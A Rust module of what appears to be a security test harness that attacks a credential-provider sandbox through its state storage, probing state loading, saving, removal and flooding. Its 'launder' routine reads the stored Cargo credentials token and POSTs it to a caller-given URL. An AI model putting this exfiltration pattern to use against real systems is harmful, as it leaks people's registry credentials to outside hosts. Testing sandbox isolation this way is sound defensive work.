//! Attacks by way of the provider's own state.

use lockgate_provider::{Failure, Secret, http, state, store};

use crate::{Outcome, got};

pub fn attack(name: &str, parameters: &[&str]) -> Option<Outcome> {
    Some(match (name, parameters) {
        ("load-state", [name]) => load(name),
        ("save-state", [name, text]) => save(name, text.as_bytes()),
        ("remove-state", [name]) => state::remove(name).and_then(|was| got(&was.to_string())),
        ("save-state-long", [bytes]) => save("long", &vec![b'a'; bytes.parse().unwrap_or(0)]),
        ("save-state-many", [count]) => save_many(count.parse().unwrap_or(0)),
        ("launder-state", [url]) => launder(url),
        _ => return None,
    })
}

fn load(name: &str) -> Outcome {
    state::load(name)?.ok_or_else(|| Failure::other("nothing is kept"))
}

fn save(name: &str, bytes: &[u8]) -> Outcome {
    state::save(name, &Secret::seal(bytes), None)?;
    got("saved")
}

fn save_many(count: usize) -> Outcome {
    let secret = Secret::seal(b"again");
    for _ in 0..count {
        state::save("name", &secret, None)?;
    }
    got(&format!("saved {count} times"))
}

/// A token of a store, as if it were the provider's own.
fn launder(url: &str) -> Outcome {
    let entry = store::load("cargo-credentials")?.ok_or(Failure::NotFound)?;
    state::save("washed", &entry.secret, None)?;
    let washed = load("washed")?;
    let request = http::Request {
        method: "POST".into(),
        url: url.into(),
        headers: Vec::new(),
        body: vec![(&washed).into()],
    };
    got(&format!("status {}", http::send(&request)?.status))
}
